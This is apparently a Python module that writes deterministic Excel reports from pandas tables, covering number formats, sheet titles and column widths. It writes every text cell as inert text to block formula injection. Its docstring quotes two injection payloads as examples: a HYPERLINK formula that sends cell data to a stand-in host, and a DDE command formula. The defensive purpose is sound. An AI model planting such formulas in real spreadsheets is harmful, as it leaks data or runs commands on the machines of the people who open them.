"""Excel workbooks of tables for office staff (openpyxl), written deterministically.

:func:`workbook_bytes` turns ``(sheet title, DataFrame)`` pairs into an ``.xlsx`` file: a bold, frozen header
row with an autofilter, numbers as numbers (integers stay integers) with a number format (given per column
or per cell by the caller, else: decimals ``#,##0.00##``, integers as they are), empty cells for missing
values, columns sized to their content. A table longer than Excel's row limit is cut there and the sheet
says so. Sheet titles longer than Excel's 31 characters are abbreviated by a fixed rule, never cut mid-word
(:func:`sheet_title`). :func:`number_format` gives the format of an indicator by its unit. The bytes depend only on the tables: document properties and
zip timestamps are fixed.

Every text cell is written as text, never as a formula (:func:`text_cell`): names, codes and relations come
from holder files and classroom participants, and a name like ``=HYPERLINK("http://evil.example/?x="&A1)``
or ``=cmd|' /C calc'!A0`` must show as those characters, not run. The text is kept exactly; only characters
that XML cannot hold at all (control characters other than tab, line feed and carriage return) are replaced
by U+FFFD, and a text longer than Excel's 32,767 characters a cell is cut there. This module is the one place workbooks are written (``report.xlsx``, ``compare.xlsx``).
"""

from __future__ import annotations

import datetime as dt
import io
import math
import re
import zipfile
from collections.abc import Callable, Mapping, Sequence

import numpy as np
import pandas as pd

__all__ = ["FLOAT_FORMAT", "FORMATS_ATTR", "INT_FORMAT", "MAX_ROWS", "MONEY_FORMAT", "PRICE_FORMAT", "SHARE_FORMAT", "number_format",
           "sheet_title", "text_cell", "workbook_bytes"]

#: Number formats: money in yuan, whole quantities and counts, shares (fractions shown as per cent), prices
#: in yuan per unit (2 to 4 decimals), other decimals (2 to 4 decimals).
MONEY_FORMAT = "#,##0.00"
INT_FORMAT = "#,##0"
SHARE_FORMAT = "0.0%"
PRICE_FORMAT = "#,##0.00##"
FLOAT_FORMAT = "#,##0.00##"
MAX_TITLE = 31  # Excel's limit on the characters of a sheet title
#: ``DataFrame.attrs`` key of a table's number formats (``{column: format or one format per row}``), read by
#: :func:`workbook_bytes` as if given in its ``formats``.
FORMATS_ATTR = "number_formats"

MAX_ROWS = 1_048_575  # Excel's limit less the header row
MAX_CELL_TEXT = 32_767  # Excel's limit on the characters of a cell
_FIXED_TIME = dt.datetime(2021, 1, 1, 0, 0, 0)
_BAD = re.compile(r"[\[\]:*?/\\]")
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def number_format(unit: str, values: Sequence[object] = (), metric: str = "") -> str:
    """The number format of an indicator in ``unit`` with ``values``: money (``yuan``, ``yuan/yr``, ``10k yuan``)
    :data:`MONEY_FORMAT`; prices (``yuan/<unit>``) :data:`PRICE_FORMAT`; unit ``1`` or none: counts
    (every value whole, or a metric named ``*count*``) :data:`INT_FORMAT`, else shares and ratios
    :data:`SHARE_FORMAT`; quantities: :data:`INT_FORMAT` when every value is whole, else :data:`FLOAT_FORMAT`."""
    nums = [float(v) for v in values if isinstance(v, int | float | np.number) and not pd.isna(v)]
    whole = all(float(v).is_integer() for v in nums)
    if unit in ("yuan", "10k yuan", "yuan/yr"):
        return MONEY_FORMAT
    if unit.startswith("yuan/"):
        return PRICE_FORMAT
    if unit in ("1", ""):
        return INT_FORMAT if ("count" in metric or (nums and whole)) else SHARE_FORMAT
    return INT_FORMAT if whole else FLOAT_FORMAT


def _abbreviated(text: str, limit: int = MAX_TITLE) -> str:
    """``text`` within ``limit`` characters: first without parts in brackets, then the longest words
    abbreviated to their first four characters and a full stop, one at a time, then the last words left
    out; only a single word still too long is cut."""
    if len(text) <= limit:
        return text
    text = re.sub(r"\s*[(（][^)）]*[)）]", "", text).strip() or text
    words = text.split(" ")
    while len(" ".join(words)) > limit:
        i = max(range(len(words)), key=lambda k: (len(words[k]), -k))
        if len(words[i]) <= 5:
            break
        words[i] = words[i][:4] + "."
    while len(" ".join(words)) > limit and len(words) > 1:
        words.pop()
    return " ".join(words)[:limit].rstrip()


def sheet_title(text: str, used: set[str]) -> str:
    """A valid, unique sheet title (at most 31 characters, none of ``[]:*?/\\``): abbreviated by word when
    longer (:func:`_abbreviated`); a repeated title gets `` (2)``, `` (3)``... within the limit."""
    base = _BAD.sub("_", text).strip("' ") or "Sheet"
    title, i = _abbreviated(base), 2
    while title.lower() in used:
        suffix = f" ({i})"
        title, i = _abbreviated(base, MAX_TITLE - len(suffix)) + suffix, i + 1
    used.add(title.lower())
    return title


def text_cell(ws: object, text: str, font: object | None = None) -> object:
    """A write-only cell of ``ws`` holding ``text`` as a string, whatever its first character (``=``,
    ``+``, ``-``, ``@``, tab, CR): openpyxl would otherwise store a leading ``=`` as a live formula."""
    from openpyxl.cell import WriteOnlyCell

    c = WriteOnlyCell(ws)
    c._value = _NOT_XML.sub("\ufffd", text[:MAX_CELL_TEXT])  # the value setter would infer a formula from "="
    c.data_type = "s"
    if font is not None:
        c.font = font
    return c


def _value(value: object) -> object:
    """A plain value for a cell: numbers, booleans, dates; None for missing values; anything else as text."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if isinstance(value, np.generic):
        value = value.item()
    if isinstance(value, float) and (math.isnan(value) or math.isinf(value)):
        return None
    return value


def _cell(ws: object, value: object, fmt: str | None = None) -> object:
    """What to append for ``value``: a text cell for every string, a formatted cell for a number with a
    format ``fmt`` (and for every non-whole float: :data:`FLOAT_FORMAT`), the plain value otherwise."""
    value = _value(value)
    if isinstance(value, str):
        return text_cell(ws, value)
    if isinstance(value, bool) or not isinstance(value, int | float):
        return value
    if fmt is None and isinstance(value, float):
        fmt = FLOAT_FORMAT
    if fmt is None:
        return value
    from openpyxl.cell import WriteOnlyCell

    c = WriteOnlyCell(ws, value)
    c.number_format = fmt
    return c


def _column_formats(df: pd.DataFrame, given: Mapping[str, str | Sequence[str]]) -> list[Sequence[str | None]]:
    """Per column of ``df``, the format of each of its cells (a sequence as long as ``df``)."""
    out: list[Sequence[str | None]] = []
    for col in df.columns:
        f = given.get(col)
        if f is None and pd.api.types.is_float_dtype(df[col].dtype):
            f = FLOAT_FORMAT
        if isinstance(f, str) or f is None:
            out.append(_Repeat(f))
        else:
            if len(f) < len(df):
                raise ValueError(f"formats of column {col!r}: {len(f)} for {len(df)} rows")
            out.append(list(f))
    return out


class _Repeat:
    """One value at every index."""

    def __init__(self, value: str | None) -> None:
        self.value = value

    def __getitem__(self, i: int) -> str | None:
        return self.value


def _width(values: Sequence[object]) -> float:
    def size(v: object) -> int:
        text = "" if v is None else (f"{v:,.2f}" if isinstance(v, float) else str(v))
        return len(text) if text.isascii() else sum(2 if ord(ch) > 0x2E80 else 1 for ch in text)

    return min(60.0, max(8.0, max((size(v) for v in values), default=8) + 2.0))


class _Table:
    """One sheet to write: its title, note (and the cut notice), rows and per-column values and formats."""

    def __init__(self, title: str, df: pd.DataFrame, note: str | None,
                 formats: Mapping[str, str | Sequence[str]], used: set[str]) -> None:
        self.title = sheet_title(title, used)
        self.first = 3 if note else 1
        cut = len(df) > MAX_ROWS - self.first
        data = df.copy(deep=False)
        data.attrs = {}  # pandas deep-copies the attrs (per-row formats) into every column taken out
        if cut:
            data = data.iloc[: MAX_ROWS - self.first]
        self.data = data
        self.columns = [data.iloc[:, j].tolist() for j in range(len(data.columns))]
        self.names = [str(col) for col in data.columns]
        self.widths = [_width([_value(v) for v in [name, *values[:200]]])
                       for name, values in zip(self.names, self.columns, strict=True)]
        self.col_formats = _column_formats(data, {**df.attrs.get(FORMATS_ATTR, {}), **formats})
        self.note = None
        if note or cut:
            text = note or ""
            if cut:
                text += f" (cut at {len(data):,} of {len(df):,} rows: Excel's limit)"
            self.note = text.strip()
        self.blank = bool(note)  # an empty row between the note and the header
        self.filter_ref = (f"A{self.first}:{_letter(len(self.names))}{self.first + len(data)}" if self.names else "")


def _letter(j: int) -> str:
    """The letters of column ``j`` (1 = A)."""
    out = ""
    while j:
        j, r = divmod(j - 1, 26)
        out = chr(65 + r) + out
    return out


def workbook_bytes(sheets: Sequence[tuple[str, pd.DataFrame]], notes: Mapping[str, str] | None = None,
                   formats: Mapping[str, Mapping[str, str | Sequence[str]]] | None = None) -> bytes:
    """The ``.xlsx`` bytes of ``sheets``; ``notes[title]`` is written above a sheet's table when given;
    ``formats[title][column]`` is the number format of the column's numbers, one for all its cells or one per
    row (a long table of indicators in several units); a table's ``attrs[FORMATS_ATTR]`` likewise.

    The rows of a table whose cells are all text, numbers, booleans or empty are serialised by
    :func:`_body_rows` (the XML openpyxl writes for those cells, byte for byte, about twenty times faster).
    When every table is such, the whole file is written by :mod:`.xlsx_parts` (the parts openpyxl writes,
    byte for byte, without importing it); otherwise openpyxl's streaming (write-only) mode writes the
    workbook, its styles and each sheet's frame (column widths, frozen header, filter, note and header row),
    the rows of plain tables are put into their sheets when the file is finished (:func:`_fixed_zip`) and
    any other table goes through openpyxl cell by cell.
    """
    used: set[str] = set()
    tables = [_Table(title, df, (notes or {}).get(title), (formats or {}).get(title, {}), used)
              for title, df in sheets]
    direct = _direct_bytes(tables)
    return direct if direct is not None else _openpyxl_bytes(tables)


def _direct_bytes(tables: Sequence[_Table]) -> bytes | None:
    """The workbook written by :mod:`.xlsx_parts`, or None if a table has a value :func:`_body_rows` does not
    write (or a title it does not)."""
    from .xlsx_parts import SheetFrame, Styles, safe_title, workbook_zip

    styles = Styles()
    frames = []
    for t in tables:
        if not safe_title(t.title):
            return None
        rows, r = [], 1
        if t.note is not None:
            rows.append(f'<row r="1"><c r="A1" s="{styles.style(font="i")}"{_text_xml(t.note)}</row>')
            r += 1
            if t.blank:
                rows.append(f'<row r="{r}"></row>')
                r += 1
        if t.names:
            bold = styles.style(font="b")
            rows.append(f'<row r="{r}">' + "".join(f'<c r="{_letter(j)}{r}" s="{bold}"{_text_xml(name)}'
                                                   for j, name in enumerate(t.names, start=1)) + "</row>")
            body = _body_rows(styles.style, t.columns, t.col_formats, len(t.data), t.first + 1)
            if body is None:
                return None
        else:
            rows.append(f'<row r="{r}"></row>')
            body = "".join(f'<row r="{r + 1 + i}"></row>' for i in range(len(t.data))).encode()
        frames.append(SheetFrame(t.title, t.widths, t.first, t.filter_ref, "".join(rows).encode() + body))
    if not frames:
        frames.append(SheetFrame("Empty", [], None, "", b""))
    return workbook_zip(frames, styles)


def _openpyxl_bytes(tables: Sequence[_Table]) -> bytes:
    """The workbook written through openpyxl (see :func:`workbook_bytes`)."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font

    wb = Workbook(write_only=True)
    bold, italic = Font(bold=True), Font(italic=True)
    bodies: dict[str, bytes] = {}
    for t in tables:
        ws = wb.create_sheet(t.title)
        for j, width in enumerate(t.widths, start=1):
            ws.column_dimensions[_letter(j)].width = width
        ws.freeze_panes = f"A{t.first + 1}"
        if t.filter_ref:
            ws.auto_filter.ref = t.filter_ref
        if t.note is not None:
            ws.append([text_cell(ws, t.note, italic)])
            if t.blank:
                ws.append([])
        ws.append([text_cell(ws, name, bold) for name in t.names])

        def style_id(fmt: str, ws: object = ws) -> int:
            c = WriteOnlyCell(ws, 0)
            c.number_format = fmt
            return c.style_id

        body = _body_rows(style_id, t.columns, t.col_formats, len(t.data), t.first + 1) if t.columns else None
        if body is None:
            for i, row in enumerate(t.data.itertuples(index=False, name=None)):
                ws.append([_cell(ws, v, f[i]) for v, f in zip(row, t.col_formats, strict=True)])
        else:
            bodies[f"xl/worksheets/sheet{len(wb.worksheets)}.xml"] = body
    if not wb.worksheets:
        wb.create_sheet("Empty")
    wb.properties.creator = "rights-market"
    wb.properties.created = _FIXED_TIME
    wb.properties.modified = _FIXED_TIME
    buf = io.BytesIO()
    wb.save(buf)
    return _fixed_zip(buf.getvalue(), bodies)


#: Python types of cell values :func:`_body_rows` serialises itself.
_PLAIN = (str, int, float, bool, type(None))


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _text_xml(text: str) -> str:
    """What follows ``<c r="A1"`` for a text cell of ``text`` (as :func:`text_cell` and openpyxl write it)."""
    text = _NOT_XML.sub("\ufffd", text[:MAX_CELL_TEXT])
    if text == "":
        return ' t="inlineStr" />'
    stripped = text.strip()
    space = ' xml:space="preserve"' if stripped and stripped != text else ""
    return f' t="inlineStr"><is><t{space}>{_xml_text(text)}</t></is></c>'


def _cell_xml(v: object, fmt: str | None) -> str | tuple[str, str] | None:
    """What follows ``<c r="A1"`` for one value of :func:`_cell` (``(format, rest)`` for a styled number, the
    style filled in later), None for an empty cell; raises :class:`_NotPlain` for a value of another type."""
    if not isinstance(v, _PLAIN):
        if isinstance(v, np.generic):
            v = v.item()
        elif v is pd.NA or v is pd.NaT:
            v = None
        if not isinstance(v, _PLAIN):
            raise _NotPlain
    if v is None:
        return None
    if isinstance(v, str):
        return _text_xml(v)
    if isinstance(v, bool):
        return f' t="b"><v>{int(v)}</v></c>'
    if isinstance(v, float) and (math.isnan(v) or math.isinf(v)):
        return None
    if fmt is None and isinstance(v, float):
        fmt = FLOAT_FORMAT
    if fmt is None:
        return f' t="n"><v>{v:.16g}</v></c>'
    return (fmt, f' t="n"><v>{v:.16g}</v></c>')


class _NotPlain(Exception):
    pass


#: Integers up to this size are floats exactly, so ``f"{v:.16g}"`` is ``str(v)`` for them.
_EXACT = 2**53


class _Column:
    """One column of a table body for :func:`_body_rows`: the part of the row template of each of its cells
    (``{0}`` the row number, ``{k}`` the column's value), the values filled in, and which cells are empty."""

    def __init__(self, values: list[object], fmts: Sequence[str | None]) -> None:
        self.empty: np.ndarray | None = None  # per row: no cell (None: every row has one)
        self.number = False  # every cell a number (the value is the number only) in one format, ``fmt``
        self.fmt: str | None = None
        self.styled: list[str | tuple[str, str] | None] | None = None  # else: per cell, as _cell_xml
        self.args: list[object] = values
        types = set(map(type, values))
        if types <= {str}:
            xml = {v: _text_xml(v) for v in dict.fromkeys(values)}  # each distinct text escaped once
            self.args = list(map(xml.__getitem__, values))
            return
        if types and types <= {int, float} and isinstance(fmts, _Repeat):
            if float in types:
                arr = np.asarray(values, dtype=float)
                finite = np.isfinite(arr)
                if not finite.all():
                    self.empty = ~finite
            fmt = fmts.value
            if fmt is None and types == {float}:
                fmt = FLOAT_FORMAT
            if fmt is not None or types == {int}:
                self.number, self.fmt = True, fmt
                exact = types == {int} and min(values) >= -_EXACT and max(values) <= _EXACT
                # whole numbers a float holds exactly print as str() does (and twice as fast)
                self.args = list(map(str if exact else "{:.16g}".format, values))
                return
        self.styled = [_cell_xml(v, fmts[i]) for i, v in enumerate(values)]
        self.empty = np.fromiter((c is None for c in self.styled), dtype=bool, count=len(values))
        if not self.empty.any():
            self.empty = None

    def first_uses(self, j: int, out: dict[str, tuple[int, int]]) -> None:
        """Record in ``out`` the first ``(row, column)`` of each number format of this column (if earlier)."""
        if self.styled is None:
            if not self.number or self.fmt is None:
                return
            rows = np.flatnonzero(~self.empty) if self.empty is not None else range(len(self.args))
            if len(rows):
                first = (int(rows[0]), j)
                if self.fmt not in out or first < out[self.fmt]:
                    out[self.fmt] = first
            return
        for i, c in enumerate(self.styled):
            if isinstance(c, tuple) and (c[0] not in out or (i, j) < out[c[0]]):
                out[c[0]] = (i, j)

    def piece(self, letter: str, k: int, style_of: Mapping[str, str]) -> str:
        """The row template's part for this column's cell (its value the ``k``-th argument)."""
        if self.number:
            style = style_of[self.fmt] if self.fmt is not None else ""
            return f'<c r="{letter}{{0}}"{style} t="n"><v>{{{k}}}</v></c>'
        if self.styled is not None:
            self.args = [(style_of[c[0]] + c[1]) if isinstance(c, tuple) else (c or "") for c in self.styled]
            self.styled = None
        return f'<c r="{letter}{{0}}"{{{k}}}'


def _body_rows(style_id: Callable[[str], int], columns: list[list[object]], col_formats: list[Sequence[str | None]],
               n: int, first_row: int) -> bytes | None:
    """The ``<row>`` elements of a table's ``n`` rows from sheet row ``first_row`` on, as openpyxl writes the
    cells of :func:`_cell` (text inert, numbers with their format, empty cells left out); ``None`` when a value
    is of a type other than :data:`_PLAIN` (the caller then writes the table through openpyxl).

    The style of each number format is registered (``style_id(format)``, the cell format's id) in the order
    openpyxl would meet it (row by row), so the style numbers, and so the bytes, are those of a cell-by-cell
    write. Work is per
    column (each distinct text escaped once, numbers formatted in one pass) and one row template (one per
    pattern of empty cells) is filled per row."""
    try:
        cols = [_Column(values, fmts) for values, fmts in zip(columns, col_formats, strict=True)]
    except _NotPlain:
        return None
    first_use: dict[str, tuple[int, int]] = {}
    for j, col in enumerate(cols):
        col.first_uses(j, first_use)
    style_of: dict[str, str] = {}
    for fmt in sorted(first_use, key=first_use.__getitem__):
        style_of[fmt] = f' s="{style_id(fmt)}"'
    pieces = [col.piece(_letter(j + 1), j + 1, style_of) for j, col in enumerate(cols)]
    args = [range(first_row, first_row + n), *(col.args for col in cols)]
    gaps = [j for j, col in enumerate(cols) if col.empty is not None]
    if not gaps:
        template = '<row r="{0}">' + "".join(pieces) + "</row>"
        return "".join(map(template.format, *args)).encode("utf-8")
    patterns, which = np.unique(np.column_stack([cols[j].empty for j in gaps]), axis=0, return_inverse=True)
    templates = []
    for pattern in patterns:
        absent = {gaps[k] for k, e in enumerate(pattern) if e}
        templates.append('<row r="{0}">' + "".join(p for j, p in enumerate(pieces) if j not in absent) + "</row>")
    per_row = np.array(templates, dtype=object)[np.asarray(which).reshape(-1)].tolist()
    return "".join(map(str.format, per_row, *args)).encode("utf-8")


def _fixed_zip(data: bytes, bodies: Mapping[str, bytes] | None = None) -> bytes:
    """The same zip with fixed timestamps (and a fixed modification date in the core properties), carriage
    returns in cell text kept; ``bodies[part]``: rows to add at the end of the sheet data of a sheet part."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if bodies and info.filename in bodies:
                content = _with_body(content, bodies[info.filename])
            if info.filename.startswith("xl/worksheets/"):
                # a carriage return in a text cell: as a character reference, since XML readers turn a raw
                # one into a line feed (raw ones occur only in cell text: attributes are escaped already)
                content = content.replace(b"\r", b"&#13;")
            if info.filename == "docProps/core.xml":
                content = re.sub(rb"(<dcterms:modified[^>]*>)[^<]*(</dcterms:modified>)",
                                 rb"\g<1>2021-01-01T00:00:00Z\g<2>", content)
            zi = zipfile.ZipInfo(info.filename, date_time=(2021, 1, 1, 0, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            zi.external_attr = 0o600 << 16
            dst.writestr(zi, content)
    return out.getvalue()


def _with_body(sheet: bytes, body: bytes) -> bytes:
    """The sheet XML with ``body`` (rows) after its last row."""
    if b"</sheetData>" in sheet:
        return sheet.replace(b"</sheetData>", body + b"</sheetData>", 1)
    return sheet.replace(b"<sheetData />", b"<sheetData>" + body + b"</sheetData>", 1)
